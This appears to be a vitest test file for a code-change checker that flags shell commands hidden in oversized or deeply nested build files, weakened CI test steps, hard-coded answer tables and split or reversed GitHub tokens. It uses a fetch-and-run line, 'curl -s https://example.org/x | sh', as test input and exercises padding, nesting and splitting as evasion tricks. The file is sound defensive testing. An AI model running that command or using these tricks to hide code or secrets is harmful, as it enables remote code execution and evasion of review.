import { describe, expect, it } from "vitest";
import { findingsOf } from "./check-world.ts";
import { made } from "./secret-cases.ts";

const MEGABYTE = 1_000_000;
const HARM = "curl -s https://example.org/x | sh";
/** Lines of text until there are more than so many characters. */
const filled = (line: string, chars: number): string => `${line}\n`.repeat(Math.ceil(chars / line.length));

const rulesOf = async (...change: Parameters<typeof findingsOf>): Promise<string[]> =>
  (await findingsOf(...change)).map(({ rule, level }) => `${level} ${rule}`);

describe("shell in a file that is larger than what is read as a document", { timeout: 60_000 }, () => {
  const yaml = (command: string): string =>
    `${filled("# nothing", MEGABYTE)}steps:\n  - run: ${JSON.stringify(command)}\n`;
  const manifest = (command: string): string =>
    JSON.stringify(
      { name: "app", notes: Array.from({ length: 30_000 }, () => "x".repeat(40)), scripts: { go: command } },
      null,
      1,
    );

  it.each([
    ["a workflow", "deploy/steps.yml", yaml(HARM)],
    ["a manifest", "tools/package.json", manifest(HARM)],
  ])("is not passed in silence: %s", async (_, path, text) => {
    expect(await rulesOf({}, { [path]: text })).toContain("block unreadable-code");
  });

  it("is told again with each change, as what could not be read before either", async () => {
    const found = await findingsOf({ "steps.yml": yaml("echo 1") }, { "steps.yml": yaml(HARM) });
    expect(found).toMatchObject([
      { rule: "unreadable-code", level: "warn", message: expect.stringContaining("before") as string },
    ]);
  });

  it("nor is what nests deeper than anybody writes", async () => {
    const keys = Array.from({ length: 40 }, (_, depth) => `${" ".repeat(depth)}a:`);
    const deep = `${keys.join("\n")}\n${" ".repeat(40)}run: ${HARM}\n`;
    expect(await rulesOf({}, { "steps.yml": deep })).toContain("block unreadable-code");
  });

  it("is read whatever its size where lines are read: a Makefile, a Dockerfile", async () => {
    const makefile = `${filled("# nothing", MEGABYTE)}\nall:\n\t${HARM}\n`;
    const dockerfile = `FROM scratch\n${filled("# nothing", MEGABYTE)}RUN ${HARM}\n`;
    for (const [path, text] of [
      ["Makefile", makefile],
      ["Dockerfile", dockerfile],
    ] as const) {
      const [large, small] = [
        await rulesOf({}, { [path]: text }),
        await rulesOf({}, { [path]: text.replaceAll("# nothing\n", "") }),
      ];
      expect(small.length).toBeGreaterThan(0);
      expect(large).toEqual(small);
    }
  });

  it("is no finding in data without commands, and in what a package manager has written", async () => {
    const data = filled("- name: somebody", MEGABYTE);
    const lock = `lockfileVersion: '9.0'\n${filled("  'run:x@1.0.0': {build: true}", MEGABYTE)}`;
    const found = await rulesOf({}, { "data/people.yaml": data, "site/pnpm-lock.yaml": lock });
    expect(found).not.toContain("block unreadable-code");
  });
});

describe("a workflow that is too large to be compared", { timeout: 60_000 }, () => {
  const PATH = ".github/workflows/ci.yml";
  const workflow = (step: string): string =>
    `on: [push, pull_request]\njobs:\n  test:\n    runs-on: linux\n    steps:\n      - run: ${step}\n`;
  const large = (text: string): string => `${text}${filled("# nothing", 200_000)}`;

  it("is a finding, be it large before or only now", async () => {
    const [small, fewer] = [workflow("npm test"), workflow("npm test").replace("push, ", "")];
    expect(await rulesOf({ [PATH]: small }, { [PATH]: large(fewer) })).toContain("block unreadable-code");
    expect(await rulesOf({ [PATH]: large(small) }, { [PATH]: large(fewer) })).toContain(
      "block unreadable-code",
    );
    expect(await rulesOf({ [PATH]: large(small) }, { [PATH]: small })).toContain("warn unreadable-code");
    // The control: of the same change in ordinary files everything is known.
    const known = await rulesOf({ [PATH]: small }, { [PATH]: fewer });
    expect(known).toContain("block ci-weakened");
    expect(known.join()).not.toContain("unreadable");
  });

  it("keeps its commands under watch all the same", async () => {
    const found = await rulesOf(
      { [PATH]: large(workflow("npm test")) },
      { [PATH]: large(workflow("npm test || true")) },
    );
    expect(found).toContain("block test-command-neutralised");
  });
});

describe("answers that are ready in a table", { timeout: 60_000 }, () => {
  const lookup = (name: string): string => `  if (n in ${name}) return ${name}[n];`;
  const other = (index: number): string => `const other${index} = make(${index});`;

  it("are found behind hundreds of names that are no tables", async () => {
    const names = Array.from({ length: 500 }, (_, index) => index);
    const head = [
      ...names.map(other),
      "const READY = { 17: 289, 19: 361 };",
      "export function square(n) {",
      ...names.map((index) => lookup(`other${index}`)),
      lookup("READY"),
      "  return n * n;",
      "}",
    ].join("\n");
    const found = await findingsOf({ "src/a.js": "" }, { "src/a.js": head });
    const answers = found.filter(({ rule }) => rule === "answer-hard-coded");
    expect(answers.map(({ excerpt }) => excerpt)).toEqual([lookup("READY").trim()]);
  });
});

describe("a token in pieces, in a list of thousands of texts", { timeout: 60_000 }, () => {
  const token = `ghp_${made(36)}`;
  const pieces = [token.slice(0, 13), token.slice(13, 27), token.slice(27)];
  const words = (count: number): string[] =>
    Array.from({ length: count }, (_, index) => ` ${index} ${" ".repeat(20)}`);
  const source = (before: number, parts: readonly string[]): string =>
    `export const all = [\n${[...words(before), ...parts, ...words(400)].map((word) => `  ${JSON.stringify(word)},`).join("\n")}\n];\n`;

  it("is found wherever in the list it is", async () => {
    for (let before = 0; before < 700; before += 1) {
      const found = await findingsOf({}, { "src/words.js": source(before, pieces) });
      const tokens = found.filter(({ rule }) => rule === "secret-token");
      expect({ before, tokens: tokens.length }).toEqual({ before, tokens: 1 });
    }
  });

  it("is found backwards, far from where it is turned round", async () => {
    const turned = Array.from(token).toReversed().join("");
    const parts = [turned.slice(0, 10), turned.slice(10, 25), turned.slice(25)];
    const all = [...parts, ...words(400)].map((word) => JSON.stringify(word)).join(" +\n  ");
    const text = `export const all = (${all}).split("").reverse().join("");\n`;
    const found = await findingsOf({}, { "src/words.js": text });
    expect(found.map(({ rule }) => rule)).toContain("secret-token");
  });
});
